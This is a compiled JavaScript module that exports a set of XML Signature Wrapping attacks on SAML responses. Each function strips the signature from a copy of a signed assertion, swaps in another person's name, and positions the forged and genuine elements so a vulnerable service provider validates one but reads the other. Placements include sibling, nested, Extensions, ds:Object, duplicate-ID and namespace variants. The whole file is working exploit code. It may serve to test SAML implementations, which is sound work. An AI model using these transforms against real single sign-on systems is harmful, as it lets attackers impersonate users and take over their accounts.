const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;
const SIGNATURE = /<ds:Signature[\s\S]*<\/ds:Signature>/;
function assertionOf(xml) {
    const [assertion] = ASSERTION.exec(xml) ?? [];
    if (assertion === undefined)
        throw new Error(`no assertion in ${xml.slice(0, 200)}`);
    return assertion;
}
/** Another name, another person, and no signature of its own. */
function forge(part, { own, wanted }) {
    return part
        .replace(SIGNATURE, '')
        .replaceAll(own, wanted)
        .replace(/ ID="([^"]*)"/, ' ID="_forged"');
}
/** The signature moves, so that it stands where the variant wants it. */
function withSignature(part, signature) {
    return part.replace(/(<saml:Issuer[\s\S]*?<\/saml:Issuer>)/, `$1${signature}`);
}
function signatureIn(part) {
    return SIGNATURE.exec(part)?.[0] ?? '';
}
export const wrappings = {
    'a forged assertion before the signed one': (xml, people) => xml.replace(ASSERTION, (signed) => forge(signed, people) + signed),
    'a forged assertion behind the signed one': (xml, people) => xml.replace(ASSERTION, (signed) => signed + forge(signed, people)),
    'the signed assertion inside the forged one': (xml, people) => xml.replace(ASSERTION, (signed) => forge(signed, people).replace('</saml:Assertion>', `${signed}</saml:Assertion>`)),
    'the signed assertion inside the signature of the forged one': (xml, people) => xml.replace(ASSERTION, (signed) => {
        const object = `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${signed.replace(SIGNATURE, '')}</ds:Object>`;
        const signature = (signatureIn(xml) || signatureIn(signed)).replace('</ds:Signature>', `${object}</ds:Signature>`);
        return withSignature(forge(signed, people), signature);
    }),
    'the signed assertion in an extension': (xml, people) => xml.replace(ASSERTION, (signed) => `<samlp:Extensions>${signed}</samlp:Extensions>${forge(signed, people)}`),
    'two assertions of one name': (xml, people) => xml.replace(ASSERTION, (signed) => forge(signed, people).replace('_forged', / ID="([^"]*)"/.exec(signed)?.[1] ?? '') + signed),
    'the signature of the signed one in the forged one': (xml, people) => xml.replace(ASSERTION, (signed) => withSignature(forge(signed, people), signatureIn(xml)) + signed.replace(SIGNATURE, '')),
    'a forged response around the signed one': (xml, people) => {
        const forged = forge(xml, people);
        return forged.replace(/<\/samlp:Response>\s*$/, `<samlp:Extensions>${xml.replace(/^<\?xml[^>]*>/, '')}</samlp:Extensions></samlp:Response>`);
    },
    'a forged response whose signature holds the signed one': (xml, people) => {
        const object = `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${xml.replace(/^<\?xml[^>]*>/, '').replace(SIGNATURE, '')}</ds:Object>`;
        const signature = signatureIn(xml).replace('</ds:Signature>', `${object}</ds:Signature>`);
        return withSignature(forge(xml, people), signature);
    },
    'two roots': (xml, people) => `${forge(xml, people)}${xml.replace(/^<\?xml[^>]*>/, '')}`,
    'a forged assertion without a namespace': (xml, people) => xml.replace(ASSERTION, (signed) => forge(assertionOf(xml), people).replaceAll('saml:', '').replace('<Assertion', '<Assertion xmlns=""') + signed),
    'an attribute ID of another namespace': (xml, people) => xml.replace(ASSERTION, (signed) => forge(signed, people).replace(' ID="_forged"', ' xmlns:x="urn:x" x:ID="_forged"') + signed),
};
//# sourceMappingURL=wrappings.js.map